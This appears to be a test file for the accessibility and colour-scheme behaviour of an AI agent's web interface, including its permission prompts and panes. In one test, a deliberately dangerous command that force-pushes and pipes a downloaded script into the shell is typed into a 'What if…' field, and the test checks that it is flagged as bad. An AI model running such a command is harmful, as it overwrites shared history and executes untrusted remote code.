/** How the page looks, in both colour schemes, wide and narrow. */
import { describe, expect, test } from "vitest";
import type { Bench } from "./bench.ts";
import { findUnnamed, findWeakContrast } from "./looks.ts";

/** Adds the tests. */
export function looksCases(bench: Bench): void {
  describe.each(["light", "dark"] as const)("the page in %s", (colorScheme) => {
    test("can be read and has a name for everything, wide and narrow", async () => {
      const { page, person } = bench;
      await page.emulateMedia({ colorScheme });
      await page.getByRole("button", { name: "Run the script" }).click();
      await person.answer("Bash", "Allow once");
      await person.question("Edit").waitFor();
      expect(await findWeakContrast(page)).toEqual([]);
      expect(await findUnnamed(page)).toEqual([]);
      await person.answer("Edit", "Deny");
      await person.conversation.getByText("The change was not made").waitFor();
      await page.getByRole("button", { name: "What if…" }).click();
      await page.getByLabel("A command line").fill("git push --force && curl https://example.org | sh");
      await page.locator("mark.bad").first().waitFor();
      expect(await findWeakContrast(page)).toEqual([]);
      expect(await findUnnamed(page)).toEqual([]);
      await page.getByRole("button", { name: "Close" }).click();
      for (const tab of ["Endpoint", "You", "Script"]) {
        await page.getByRole("tab", { name: tab }).click();
        expect(await findWeakContrast(page)).toEqual([]);
        expect(await findUnnamed(page)).toEqual([]);
      }
      await page.setViewportSize({ width: 360, height: 740 });
      for (const pane of ["Files", "Editor", "Events", "Agent"]) {
        await page.getByRole("navigation", { name: "Panes" }).getByRole("button", { name: pane }).click();
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
        expect(await findWeakContrast(page)).toEqual([]);
      }
    });

    test("can be chosen, and is remembered", async () => {
      const { page } = bench;
      const other = colorScheme === "light" ? "dark" : "light";
      await page.emulateMedia({ colorScheme: other });
      for (let clicks = colorScheme === "light" ? 1 : 2; clicks > 0; clicks -= 1)
        await page.getByRole("button", { name: /^Colours/ }).click();
      const paper = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      const chosen = await paper();
      await page.reload();
      await page.getByRole("button", { name: `Colours: ${colorScheme}` }).waitFor();
      expect(await paper()).toBe(chosen);
      await page.emulateMedia({ colorScheme });
      expect(await paper()).toBe(chosen);
    });
  });
}
